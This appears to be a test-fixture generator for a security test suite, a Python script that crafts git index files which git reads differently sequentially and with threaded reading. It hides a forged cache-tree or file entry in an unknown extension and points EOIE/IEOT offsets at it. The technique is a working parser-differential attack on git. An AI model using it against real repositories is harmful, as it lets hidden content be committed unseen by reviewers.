"""Crafts index files that git reads one way sequentially and another way
with index.threads >= 2 (EOIE/IEOT), the attacks of issue 24 item 1
(tests/index_reading.rs). Input: a git-written index, version 2 or 3,
SHA-1. Its extensions are dropped.

Usage:
  craft_index.py hidden-tree IN OUT DIR TREE COUNT
      An unknown optional extension "ZZZZ" hides a cache-tree (TREE) whose
      root is invalid and whose subtree DIR is valid, naming TREE over
      COUNT entries; EOIE points inside ZZZZ, at the TREE. Read
      sequentially there is no cache-tree; read with threads, git commits
      TREE at DIR.
  hidden-entry IN OUT PATH BLOB
      An unknown optional extension "ZZZZ" holds a copy of PATH's entry
      naming BLOB; IEOT lists blocks that read that copy in place of the
      real one. Read sequentially the index is unchanged.
  eoie-only IN OUT
      The entries with a correct EOIE and no other extension (control).
"""
import hashlib
import struct
import sys


def parse(path):
    d = open(path, 'rb').read()
    body = d[:-20]
    assert body[:4] == b'DIRC'
    ver, n = struct.unpack('>II', body[4:12])
    assert ver in (2, 3), ver
    off = 12
    entries = []
    for _ in range(n):
        start = off
        flags = struct.unpack('>H', body[off + 60:off + 62])[0]
        name_at = off + 62 + (2 if flags & 0x4000 else 0)
        nul = body.index(b'\0', name_at)
        size = ((name_at - start) + (nul - name_at) + 8) & ~7
        entries.append((body[name_at:nul], body[start:start + size]))
        off = start + size
    return body[:12], entries


def ext(sig, data):
    return sig + struct.pack('>I', len(data)) + data


def eoie(offset, headers):
    return ext(b'EOIE', struct.pack('>I', offset) + hashlib.sha1(headers).digest())


def finish(out_path, body):
    open(out_path, 'wb').write(body + hashlib.sha1(body).digest())


def main():
    mode, src, dst = sys.argv[1:4]
    header, entries = parse(src)
    raw = header + b''.join(e for _, e in entries)
    end = len(raw)
    if mode == 'eoie-only':
        finish(dst, raw + eoie(end, b''))
    elif mode == 'hidden-tree':
        path, tree, count = sys.argv[4].encode(), bytes.fromhex(sys.argv[5]), sys.argv[6]
        node = b'\0-1 1\n' + path + b'\0' + count.encode() + b' 0\n' + tree
        tree_ext = ext(b'TREE', node)
        hider = ext(b'ZZZZ', tree_ext)
        # Threaded: from the TREE inside ZZZZ, one extension, then EOIE.
        inner = end + 8
        finish(dst, raw + hider + eoie(inner, tree_ext[:8]))
    elif mode == 'hidden-entry':
        path, blob = sys.argv[4].encode(), bytes.fromhex(sys.argv[5])
        at = [i for i, (name, _) in enumerate(entries) if name == path][0]
        real = entries[at][1]
        forged = real[:40] + blob + real[60:]
        offsets = []
        off = 12
        for _, e in entries:
            offsets.append(off)
            off += len(e)
        hider = ext(b'ZZZZ', forged)
        forged_at = end + 8
        blocks = []
        if at > 0:
            blocks.append((12, at))
        blocks.append((forged_at, 1))
        if at + 1 < len(entries):
            blocks.append((offsets[at + 1], len(entries) - at - 1))
        table = struct.pack('>I', 1) + b''.join(struct.pack('>II', o, n) for o, n in blocks)
        ieot = ext(b'IEOT', table)
        finish(dst, raw + hider + ieot + eoie(end, hider[:8] + ieot[:8]))
    else:
        sys.exit('unknown mode ' + mode)


main()
